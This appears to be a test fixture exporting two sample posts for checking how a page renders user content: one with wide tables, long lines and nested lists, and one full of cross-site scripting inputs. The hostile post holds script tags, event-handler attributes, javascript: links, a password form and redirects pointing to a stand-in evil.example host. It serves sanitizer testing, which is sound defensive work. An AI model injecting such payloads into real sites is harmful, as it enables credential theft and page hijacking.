// Two posts that a page must survive: one that is wide, and one that means harm.

/** Things wider than a phone: a table, code, a long link, a picture, nested lists. */
export const WIDE_POST = `The carrier sent this:

| line | from | to | lost | restored | who | what they said |
|---|---|---|---:|---|---|---|
| A-100-200-300 | Denver | Salt Lake City | 1 000 000 | not yet | carrier-without-a-name | a digger |
| A-100-200-301 | Denver | Cheyenne | 12 | 2:15 | carrier | nothing |

\`\`\`
traceroute to example.com (192.0.2.1), 30 hops max, 60 byte packets, and a line that does not end soon
\`\`\`

An address: <https://www.example.com/a/very/long/path/that/goes/on/and/on/without/any/place/to/break/it>
and \`code_without_any_place_to_break_it_inside_a_line_of_text_that_is_long\`.

1. one
   - two
     - three levels

> Quoted: “we are at it”.

A footnote.[^1]

[^1]: Here it is.
`;

/** Everything that might run, load, style or imitate something. */
export const HOSTILE_POST = `Hello <script>window.hacked = 1; alert(1)</script>

<img src="x" alt="a picture" onerror="window.hacked = 2"> <svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>

<iframe src="https://evil.example/"></iframe> <object data="https://evil.example/"></object>

[click](javascript:window.hacked=5) <a href="javascript:window.hacked=6" onclick="window.hacked=7">or here</a> [data](data:text/html,<script>window.hacked=8</script>)

<p style="position:fixed;inset:0;background:red" class="card" id="main">covers the page</p>

<ul>loose <li>one<li>two</ul> <table><td>cell</table> <b><div>a block</div></b> <img title="no text">

<details>nameless</details> <p>one<p>two <span lang="??" dir="up">odd</span> <time>soon</time>

<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example/"><input name="password" autofocus onfocus="window.hacked=9"><button>Sign in</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">

<details ontoggle="window.hacked=10" open><summary>More</summary>inside</details>

<math><mtext><img src=x onerror=window.hacked=11></math> <video src="https://evil.example/v" autoplay></video>

</main></body></html><h1>Another headline</h1>

The last words are still here.
`;
